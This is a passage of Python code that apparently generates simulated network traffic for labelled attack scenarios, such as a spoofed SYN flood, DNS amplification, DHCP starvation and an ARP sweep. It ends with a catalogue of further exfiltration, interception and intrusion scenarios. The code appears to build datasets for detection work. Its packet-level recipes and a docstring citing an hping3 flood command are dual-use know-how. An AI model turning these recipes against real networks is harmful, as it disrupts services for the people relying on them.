    live = {h.v4_words[1] & 0xFFFFFFFF: h for h in st.site.role("compute")}
    base = ip_words("10.10.100.0")[1] & 0xFFFFFFFF
    t = st.t0
    for k in range(1, 255):
        tpa = base + k
        st.craft.arp(t, 1, scanner.mac_int, scanner.v4_words[1] & 0xFFFFFFFF, 0, tpa)
        if tpa in live:
            h = live[tpa]
            st.craft.arp(t + 300_000, 2, h.mac_int, tpa, scanner.mac_int, scanner.v4_words[1] & 0xFFFFFFFF)
        t += int(st.rng.uniform(20, 40) * MS)
    return incident("scan", "arp_sweep", [scanner.ipv4], st.t0, t, "ARP scan of the compute network by ws15")


# -- denial of service --------------------------------------------------------------------------------
def syn_flood(st: Stage) -> dict:
    """hping3 --flood --rand-source against login1:443: 30,000 SYNs in 12 s from random
    addresses; login1 answers each with a SYN-ACK that nobody completes."""
    return spoofed_syns(st, 30_000, 12 * S, answered=True)


def spoofed_syns(st: Stage, n: int, span_ns: int, answered: bool) -> dict:
    """``n`` SYNs to login1:443 over ``span_ns`` from random IPv4 sources (almost all distinct:
    a spoofed flood makes a flow per packet), each answered by a SYN-ACK if ``answered``."""
    r = st.rng
    ts = st.t0 + np.sort(r.integers(0, span_ns, n))
    src = np.uint64(0x0000FFFF00000000) | (r.integers(1 << 24, 223 << 24, n).astype(np.uint64))
    target = st.host("login1")
    t_hi, t_lo = target.v4_words
    gw = st.site.gateway.mac_int
    sp = r.integers(1024, 65535, n)
    seq = r.integers(0, 2**32, n)
    syn = PacketSpec.build(n, ts_ns=ts, src_mac=gw, dst_mac=target.mac_int, ip_ver=4, src_lo=src, dst_hi=t_hi,
                           dst_lo=t_lo, proto=6, sport=sp, dport=443, flags=TH_SYN, seq=seq, win=512,
                           ttl=r.integers(40, 250, n), ip_id=r.integers(0, 65535, n))
    st.parts.append(syn)
    if answered:
        st.parts.append(PacketSpec.build(n, ts_ns=ts + 100_000, src_mac=target.mac_int, dst_mac=gw, ip_ver=4,
                                         src_hi=t_hi, src_lo=t_lo, dst_lo=src, proto=6, sport=443, dport=sp,
                                         flags=TH_SYN | TH_ACK, seq=r.integers(0, 2**32, n),
                                         ack=(seq + 1) & 0xFFFFFFFF, win=64240, ttl=64))
    return incident("dos", "syn_flood", [target.ipv4], st.t0, int(ts[-1]), "spoofed SYN flood against login1:443")


def reflection(st: Stage) -> dict:
    """DNS amplification against a DTN: 60 open resolvers answer spoofed ANY queries with
    1,400-byte responses to dtn2's random ports, 20,000 of them in 10 s."""
    n = 20_000
    r = st.rng
    victim = st.host("dtn2")
    v_hi, v_lo = victim.v4_words
    refl = np.array([ip_words(st.external((8, 77, 91, 103, 177, 190, 200)))[1] for _ in range(60)], np.uint64)
    ts = st.t0 + np.sort(r.integers(0, 10 * S, n))
    spec = PacketSpec.build(n, ts_ns=ts, src_mac=st.site.gateway.mac_int, dst_mac=victim.mac_int, ip_ver=4,
                            src_lo=refl[r.integers(0, len(refl), n)], dst_hi=v_hi, dst_lo=v_lo, proto=17, sport=53,
                            dport=r.integers(1024, 65535, n), ttl=r.integers(45, 60, n), payload_len=1400,
                            cap_payload=0, ip_id=r.integers(0, 65535, n))
    st.parts.append(spec)
    return incident("dos", "reflection", [victim.ipv4], st.t0, int(ts[-1]), "DNS amplification against dtn2")


def dhcp_starvation(st: Stage) -> dict:
    """dhcpstarv: DISCOVERs from 400 made-up MAC addresses in 40 s; the real server offers
    addresses until its pool runs dry."""
    gw = st.site.gateway
    server = st.peer(gw)
    bcast = Peer(0, ip_words("255.255.255.255")[1], BROADCAST_MAC, 4, "255.255.255.255")
    t = st.t0
    for k in range(400):
        mac = int(st.rng.integers(1, 2**47)) << 1 & 0xFEFFFFFFFFFF  # unicast, globally administered look
        me = Peer(0, ip_words("0.0.0.0")[1], mac, 4, "0.0.0.0")
        xid = int(st.rng.integers(0, 2**32))
        st.craft.udp(t, me, bcast, 68, 67, msg.dhcp(msg.DISCOVER, xid, mac), dst_mac=BROADCAST_MAC)
        if k < 120:
            st.craft.udp(t + 3 * MS, server, bcast, 67, 68,
                         msg.dhcp(msg.OFFER, xid, mac, f"10.10.60.{k + 2}", gw.ipv4, gw.ipv4, "10.10.0.53"),
                         dst_mac=BROADCAST_MAC)
        t += int(st.rng.uniform(50, 150) * MS)
    return incident("dos", "dhcp_starvation", [gw.ipv4], st.t0, t, "DHCP pool exhaustion with forged client MACs")


ATTACKS = {
    "exfil-dns-tunnel": dns_tunnel, "exfil-icmp-tunnel": icmp_tunnel, "exfil-bulk-upload": bulk_upload,
    "exfil-reverse-ssh": reverse_ssh, "exfil-login-upload": login_upload,
    "mitm-arp-spoof": arp_spoof, "mitm-arp-request": arp_request, "mitm-icmp-redirect": icmp_redirect, "mitm-rogue-dhcp": rogue_dhcp,
    "mitm-dns-spoof": dns_spoof, "mitm-ssh-hostkey": ssh_hostkey, "mitm-tls-cert": tls_cert,
    "mitm-tcp-hijack": tcp_hijack, "mitm-tls-name": tls_name,
    "theft-stratum": stratum, "theft-beaconing": beaconing, "theft-compute-outbound": compute_outbound,
    "theft-gpu-unallocated": gpu_unallocated, "theft-gpu-foreign": gpu_foreign,
    "access-ssh-bruteforce": ssh_bruteforce, "access-distributed-guessing": distributed_guessing,
    "access-remote-shell": remote_shell, "access-c2-port80": c2_port80,
    "scan-ports": port_scan, "scan-sweep": address_sweep, "scan-arp-sweep": arp_sweep,
    "dos-syn-flood": syn_flood, "dos-reflection": reflection, "dos-dhcp-starvation": dhcp_starvation,
}
